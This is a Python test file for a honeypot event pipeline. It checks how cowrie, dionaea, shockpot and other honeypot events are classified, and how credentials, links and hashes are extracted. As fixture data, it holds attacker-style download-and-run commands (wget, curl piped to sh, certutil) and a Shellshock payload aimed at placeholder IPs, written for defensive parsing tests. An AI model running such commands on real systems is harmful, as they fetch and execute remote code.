"""What honeypots' events mean: their kind, their credentials, links and hashes.

Events here are made by hand after the processors' vocabulary. The tables of declarations are
tested like code: see "The declaration itself".
"""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from time import process_time
from typing import Any

import numpy as np
import polars as pl
import pytest

from stingar_dagster.capture.records import Records, epoch_us
from stingar_dagster.cleaning.clean import Cleaner, Rules
from stingar_dagster.streams import STINGAR, STREAMS
from stingar_dagster.streams.expressions import (
    hashes_in,
    urls_in,
    without_bytes_repr,
    without_mapped_prefix,
)
from stingar_dagster.streams.stream import PUBLISHED_TYPE, Column, FieldKind, Stream

HOUR = datetime(2022, 5, 19, 17, tzinfo=UTC)
CLEANER = Cleaner(STINGAR, Rules(start=datetime(2020, 1, 1, tzinfo=UTC), max_body_bytes=1_000_000))


def clean(**members: object) -> dict[str, Any]:
    """The event of a body, without its nulls."""
    data = json.dumps(members).encode()
    records = Records(
        buffer=data,
        capture=np.zeros(1, np.int32),
        sequence=np.zeros(1, np.int64),
        enqueued_us=np.full(1, epoch_us(HOUR), np.int64),
        body_start=np.zeros(1, np.int64),
        body_length=np.array([len(data)], np.int64),
    )
    outcome = CLEANER.clean(records, HOUR)
    assert outcome.rejected == []
    (row,) = outcome.events.to_dicts()
    return {key: value for key, value in row.items() if value is not None}


def kind_of(signature: str) -> str:
    return str(clean(type="cowrie.sessions", signature=signature)["event_kind"])


# One event of each honeypot


@dataclass(frozen=True)
class Case:
    """An event's own members, and what they mean."""

    sent: Mapping[str, object]
    kind: str
    username: str | None = None
    password: str | None = None
    urls: list[str] | None = None
    hashes: list[str] | None = None


MD5, SHA1, SHA256, SHA512 = "d4" * 16, "5a" * 20, "0f" * 32, "9b" * 64
LINK = "http://198.51.100.20/bins/x.sh"
OPENED = "Connection to Honeypot"
COWRIE: dict[str, object] = {
    "type": "cowrie.sessions",
    "app": "cowrie",
    "protocol": "ssh",
    "severity": "high",
}
DIONAEA: dict[str, object] = {
    "type": "dionaea.capture",
    "app": "dionaea",
    "src_port": "4444",
    "dest_port": "445",
}

CASES = {
    "cowrie opened": Case(COWRIE | {"signature": OPENED, "loggedin": None}, "connection"),
    "cowrie session of older releases": Case(
        COWRIE | {"signature": "SSH session on cowrie honeypot"}, "connection"
    ),
    "kippo tried": Case(
        COWRIE
        | {
            "type": "kippo.sessions",
            "signature": "SSH login attempted on kippo honeypot",
            "ssh_username": "pi",
            "ssh_password": "raspberry",
        },
        "login_attempt",
        "pi",
        "raspberry",
    ),
    "cowrie tried with a key": Case(
        COWRIE
        | {
            "signature": "SSH login attempted on cowrie honeypot using public key",
            "ssh_username": "root",
            "authentication_keys": [{"key_fingerprint": "00:11", "key_type": "ssh-rsa"}],
        },
        "login_attempt",
        "root",
    ),
    "cowrie let in": Case(
        COWRIE
        | {"signature": "SSH login successful on cowrie honeypot", "loggedin": ["root", "E5ef"]},
        "login_success",
        "root",
        "E5ef",
    ),
    "cowrie command": Case(
        COWRIE
        | {
            "signature": "command attempted on cowrie honeypot",
            "command": f"cd /tmp; wget {LINK}; tftp://198.51.100.21/a",
            "loggedin": ["root", "E5ef"],
        },
        "command",
        urls=[LINK, "tftp://198.51.100.21/a"],
    ),
    "cowrie unknown command": Case(
        COWRIE | {"signature": "unknown command attempted on cowrie honeypot", "command": "lockr"},
        "command",
    ),
    "cowrie link": Case(
        COWRIE | {"signature": "URL download attempted on cowrie honeypot", "url": LINK},
        "download",
        urls=[LINK],
    ),
    "cowrie file": Case(
        COWRIE
        | {
            "signature": "File downloaded on cowrie honeypot",
            "hash": SHA256.upper(),
            "sha256": SHA256,
            "url": LINK,
        },
        "download",
        urls=[LINK],
        hashes=[SHA256],
    ),
    "dionaea payload": Case(
        DIONAEA
        | {"signature": "File captured: download complete", "url": LINK, "md5": MD5}
        | {"sha512": SHA512},
        "download",
        urls=[LINK],
        hashes=[MD5, SHA512],
    ),
    "dionaea login": Case(
        DIONAEA | {"signature": "MySQL login event", "username": "sa", "password": "sa1"},
        "login_attempt",
        "sa",
        "sa1",
    ),
    "dionaea shell": Case(
        DIONAEA | {"signature": "MSSQL command", "cmd": f"certutil -f {LINK} a.exe"},
        "command",
        urls=[LINK],
    ),
    "dionaea connection": Case(
        {"type": "dionaea.connections", "dionaea_action": "accept", "signature": OPENED},
        "connection",
    ),
    "conpot": Case(
        {"type": "conpot.events-modbus", "signature": OPENED, "dest_port": 0, "dest_ip": None},
        "connection",
    ),
    "glastopf": Case(
        {"type": "glastopf.events", "signature": OPENED, "request_url": "http://x.example/a"},
        "connection",
    ),
    "amun": Case({"type": "amun.events", "signature": OPENED}, "connection"),
    "beeswarm": Case({"type": "beeswarm.hive", "signature": OPENED}, "connection"),
    "wordpot": Case(
        {
            "type": "wordpot.alerts",
            "signature": "Wordpress Exploit, Scan, or Enumeration Attempted",
            "dest_port": "80",
        },
        "recon",
    ),
    "shockpot": Case(
        {
            "type": "shockpot.events",
            "signature": "Shellshock Exploit Attempted",
            "url": f"() {{ :; }}; /bin/bash -c 'curl -O {LINK}'",
            "sha1": SHA1,
            "src_port": 0,
        },
        "exploit",
        urls=[LINK],
        hashes=[SHA1],
    ),
    "elastichoney exploit": Case(
        {
            "type": "elastichoney.events",
            "signature": "ElasticSearch Exploit Attempted",
            "command": f"wget {LINK} -O /tmp/x",
        },
        "exploit",
        urls=[LINK],
    ),
    "elastichoney recon": Case(
        {"type": "elastichoney.events", "signature": "ElasticSearch Recon Attempted"}, "recon"
    ),
    "elasticpot": Case(
        {"type": "elasticpot.events", "signature": "Connection to honeypot", "url": "/_cat"},
        "connection",
    ),
    "rdphoney": Case(
        {"type": "rdphoney.sessions", "signature": OPENED, "username": "admin", "data": "AwAA"},
        "login_attempt",
        "admin",
    ),
    "uhp": Case(
        {"type": "uhp.events", "app": None, "signature": OPENED, "message": "b'GET /'"},
        "connection",
    ),
    "spylex": Case(
        {"type": "spylex.events", "signature": OPENED, "eventid": "GET", "args": {"q": "1"}},
        "connection",
    ),
    "big-hp": Case(
        {"type": "big-hp.events", "signature": OPENED, "headers": {"Host": "x"}}, "connection"
    ),
    "ssh-auth-logger password": Case(
        {
            "type": "ssh-auth-logger",
            "signature": "SSH login attempted on ssh-auth-logger honeypot with password",
            "ssh_username": "root",
            "ssh_password": "",
        },
        "login_attempt",
        "root",
    ),
    "ssh-auth-logger key": Case(
        {
            "type": "ssh-auth-logger",
            "signature": "SSH login attempted on ssh-auth-logger honeypot with key",
            "ssh_fingerprint": "SHA256:abc",
            "keytype": "ssh-rsa",
        },
        "login_attempt",
    ),
    "honeydb-agent": Case(
        {"type": "honeydb-agent", "signature": OPENED, "bytes": "12", "hdb_event": "RX"},
        "connection",
    ),
    "snort": Case(
        {
            "type": "snort.alerts",
            "signature": "ET SCAN SSH login attempt, command download exploit",
            "transport": "TCP",
        },
        "alert",
    ),
    "suricata": Case(
        {"type": "suricata.events", "signature": "ET EXPLOIT", "suricata_action": "allowed"},
        "alert",
    ),
    "p0f": Case({"type": "p0f.events", "signature": "Packet Observed by p0f"}, "other"),
    "no signature": Case({"type": "new.honeypot"}, "other"),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_an_event_of_each_honeypot_is_understood(case: Case) -> None:
    row = clean(**case.sent)
    understood = Case(
        case.sent,
        row["event_kind"],
        row.get("username"),
        row.get("password"),
        row.get("urls"),
        row.get("hashes"),
    )
    assert understood == case


def test_the_kinds_here_are_all_that_are_declared() -> None:
    (column,) = (column for column in STINGAR.columns if column.name == "event_kind")
    assert {case.kind for case in CASES.values()} == set(column.meaning.split(", "))


# Spellings


@pytest.mark.parametrize(
    ("signature", "kind"),
    [
        ("SSH Login Attempted on Cowrie Honeypot", "login_attempt"),
        ("SSH LOGIN SUCCESSFUL ON COWRIE HONEYPOT", "login_success"),
        ("SSH login failed on cowrie", "login_attempt"),
        ("Telnet login attempted", "login_attempt"),
        ("User logged in", "login_success"),
        ("Command attempted on Honeypot", "command"),
        ("Unknown Command attempted on cowrie honeypot", "command"),
        ("File Downloaded on Honeypot", "download"),
        ("URL Download attempted on cowrie Honeypot", "download"),
        ("Connection to honeypot", "connection"),
        ("SSH Session on Honeypot", "connection"),
        ("Commander login attempted", "login_attempt"),
        ("Commandeered", "other"),
        ("Scanner seen", "other"),
        ("", "other"),
    ],
)
def test_signatures_are_recognised_in_spellings_of_older_and_newer_releases(
    signature: str, kind: str
) -> None:
    assert kind_of(signature) == kind


def test_a_signature_is_published_as_it_was_sent() -> None:
    text = "SSH Login Attempted on Cowrie Honeypot "
    assert clean(signature=text)["signature"] == text


# Credentials


@pytest.mark.parametrize(
    "signature",
    [
        "SSH login attempted on cowrie honeypot",
        "command attempted on cowrie honeypot",
        "unknown command attempted on cowrie honeypot",
        "File downloaded on cowrie honeypot",
        OPENED,
    ],
)
def test_the_sessions_credential_is_not_that_of_its_other_events(signature: str) -> None:
    row = clean(type="cowrie.sessions", signature=signature, loggedin=["root", "toor"])
    assert "username" not in row
    assert "password" not in row


def test_a_failed_login_has_its_own_credential_beside_the_sessions() -> None:
    row = clean(
        signature="SSH login attempted on cowrie honeypot",
        loggedin=["root", "toor"],
        ssh_username="admin",
        ssh_password="1234",
    )
    assert (row["username"], row["password"]) == ("admin", "1234")
    assert row["loggedin"] == ["root", "toor"]


def test_an_events_own_credential_goes_before_the_sessions() -> None:
    row = clean(
        signature="SSH login successful on cowrie honeypot",
        loggedin=["root", "toor"],
        ssh_username="admin",
        username="a",
    )
    assert (row["username"], row["password"]) == ("a", "toor")
    assert row["ssh_username"] == "admin"


# Links and hashes


@pytest.mark.parametrize(
    ("command", "urls"),
    [
        (f"wget {LINK}", [LINK]),
        (f"wget '{LINK}'; curl \"{LINK}?a=1&b=2\"", [LINK, f"{LINK}?a=1&b=2"]),
        (f"(curl {LINK}|sh)", [LINK]),
        (f"$(wget {LINK})>x<{LINK}", [LINK]),
        ("wget HTTP://198.51.100.20/A", ["HTTP://198.51.100.20/A"]),
        ("ftpget ftp://u:p@198.51.100.20:21/a", ["ftp://u:p@198.51.100.20:21/a"]),
        ("a https://b.example/\u00e9 c", ["https://b.example/\u00e9"]),
        ("http:// x", None),
        ("xhttp://198.51.100.20/", None),
        ("gopher://198.51.100.20/", None),
        ("uname -a", None),
    ],
)
def test_links_are_found_inside_commands(command: str, urls: list[str] | None) -> None:
    assert clean(command=command).get("urls") == urls


def test_links_come_from_every_field_once_and_in_order() -> None:
    a, b, c = "http://a.example/", "http://b.example/", "http://c.example/"
    assert clean(cmd=f"{a} {b}", command=f"{b} {c}", url=c)["urls"] == [c, b, a]


def test_a_path_asked_from_the_honeypot_is_no_link_that_it_named() -> None:
    assert "urls" not in clean(url="/_search", request_url=LINK, path=LINK)


@pytest.mark.parametrize("length", [32, 40, 56, 64, 96, 128])
def test_hashes_of_every_length_are_found_in_lower_case(length: int) -> None:
    assert clean(hash="A" * length)["hashes"] == ["a" * length]


@pytest.mark.parametrize("text", ["a" * 31, "a" * 33, "a" * 129, "g" * 32, "x" + "a" * 32])
def test_what_is_no_hash_is_published_as_sent_alone(text: str) -> None:
    row = clean(md5=text)
    assert row["md5"] == text
    assert "hashes" not in row


def test_a_hash_is_found_between_other_words() -> None:
    assert clean(md5=f" md5:{MD5}\n", sha256=f"{SHA256} {SHA1}")["hashes"] == [MD5, SHA256, SHA1]


# The declaration itself


@pytest.mark.parametrize("stream", STREAMS.values(), ids=STREAMS.keys())
class TestDeclaration:
    def test_names_need_no_escaping_in_json_lines(self, stream: Stream) -> None:
        names = [column.name for column in stream.columns]
        names += [column.name for table in stream.tables for column in table.columns]
        assert [name for name in names if not re.fullmatch(r"[A-Za-z0-9_@]+", name)] == []

    def test_every_column_and_table_has_a_meaning(self, stream: Stream) -> None:
        meanings = [
            *((column.name, column.meaning) for column in stream.columns),
            *((field.name, field.meaning) for field in stream.fields),
            *((table.name, table.meaning) for table in stream.tables),
            *((column.name, column.meaning) for table in stream.tables for column in table.columns),
        ]
        assert [name for name, meaning in meanings if len(meaning.strip()) < 4] == []

    def test_no_spelling_means_two_things(self, stream: Stream) -> None:
        spellings = [
            *(field.name for field in stream.fields),
            *(alias for field in stream.fields for alias in field.aliases),
            *stream.time_fields,
            *stream.unwrap,
        ]
        assert [name for name, count in Counter(spellings).items() if count > 1] == []

    def test_no_column_stands_twice(self, stream: Stream) -> None:
        names = Counter(column.name for column in stream.columns)
        assert [name for name, count in names.items() if count > 1] == []

    def test_a_body_cannot_declare_the_engines_columns(self, stream: Stream) -> None:
        published = {"event_id", "enqueued_at", "time_source", "extra"}
        assert published.isdisjoint(field.name for field in stream.fields)
        internal = {"record", "sub", "time_us", "enqueued_us", "capture", "source", "sequence"}
        assert internal.isdisjoint(stream.schema)

    def test_options_stand_only_where_they_mean_something(self, stream: Stream) -> None:
        for field in stream.fields:
            assert field.separator is None or field.kind is FieldKind.LIST
            assert not field.inside or field.kind is FieldKind.TEXT

    def test_derived_columns_are_computed_with_their_declared_types(self, stream: Stream) -> None:
        fields = {
            field.name: pl.Series(field.name, [], PUBLISHED_TYPE[field.kind])
            for field in stream.fields
            if field.kind is not FieldKind.FREE
        }
        frame = pl.DataFrame(fields)
        for step in stream.steps:
            frame = frame.with_columns(*step)
        for column in stream.columns:
            if column.name in frame.columns:
                assert frame.schema[column.name] == column.dtype, column.name
        assert {column.name for column in stream.derived} <= set(frame.columns)
        known = set(stream.schema) | set(fields)
        assert set(frame.columns) <= known, "a step leaves a column that nobody declared"

    def test_tables_are_named_and_typed_as_declared(self, stream: Stream) -> None:
        names = [table.name for table in stream.tables]
        assert len(set(names)) == len(names)
        for table in stream.tables:
            assert re.fullmatch(r"daily_[a-z_]+", table.name)
            declared = [column.name for column in table.columns]
            assert len(set(declared)) == len(declared)
            assert declared[: len(table.keys)] == table.key_names
            assert set(table.descending) <= set(declared)
            assert table.quarantine_column is None or table.quarantine_column in declared

    def test_a_column_twice_or_odd_slots_are_no_declaration(self, stream: Stream) -> None:
        twice = (*stream.derived, Column("extra", pl.String(), "taken"))
        with pytest.raises(ValueError, match="a column twice"):
            replace(stream, derived=twice)
        with pytest.raises(ValueError, match="slots"):
            replace(stream, slot_minutes=7)

    def test_hubs_are_matched_by_pattern_and_case(self, stream: Stream) -> None:
        some = replace(stream, hubs=("pots-?", "Edge*"))
        assert [some.carries(hub) for hub in ("pots-1", "Edge-all", "pots-12", "edge-all")] == [
            *(True, True, False, False)
        ]


def test_what_searches_look_for_is_published() -> None:
    names = (
        "@timestamp src_ip src_port dest_ip dest_port type app signature command loggedin tags "
        "sensor event_id enqueued_at event_kind username password urls hashes time_source extra "
        "ids_type vendor_product severity protocol transport direction client_heigth kex_hassh"
    )
    assert set(names.split()) <= set(STINGAR.schema)


# Time and size

EXPRESSIONS = {
    "links": urls_in("text"),
    "hashes": hashes_in("text"),
    "bytes": without_bytes_repr("text"),
    "addresses": without_mapped_prefix("text"),
}
HOSTILE = [
    *(
        "http://",
        "http:",
        "://",
        "http://a ",
        "httphttps://x' ",
        "a" * 32,
        "b'",
        "b'a'\"",
        "::ffff:",
    ),
    *("1.", "::ffff:1.1.1.", "login ", "command", " scan", "unknown command ", "\u00e9", "x", " "),
]


@pytest.mark.parametrize("unit", HOSTILE)
@pytest.mark.parametrize("name", EXPRESSIONS)
def test_expressions_take_time_in_proportion_to_hostile_text(name: str, unit: str) -> None:
    def seconds(size: int) -> float:
        frame = pl.DataFrame({"text": [unit * (size // len(unit.encode()))]})
        started = process_time()
        frame.select(EXPRESSIONS[name])
        return process_time() - started

    assert_linear(seconds)


@pytest.mark.parametrize("unit", HOSTILE)
def test_signatures_are_understood_in_time_in_proportion_to_hostile_text(unit: str) -> None:
    others = [
        pl.lit(None, dtype=dtype).alias(name)
        for name, dtype in STINGAR.schema.items()
        if name != "signature"
    ]

    def seconds(size: int) -> float:
        frame = pl.DataFrame({"signature": [unit * (size // len(unit.encode()))]})
        frame = frame.with_columns(others)
        started = process_time()
        for step in STINGAR.steps:
            frame = frame.with_columns(*step)
        return process_time() - started

    assert_linear(seconds)


def assert_linear(seconds: Callable[[int], float]) -> None:
    """Twenty times the text takes nowhere near four hundred times as long."""
    baseline = min(seconds(50_000) for _ in range(3))
    assert min(seconds(1_000_000) for _ in range(3)) < 40 * max(baseline, 2e-3)
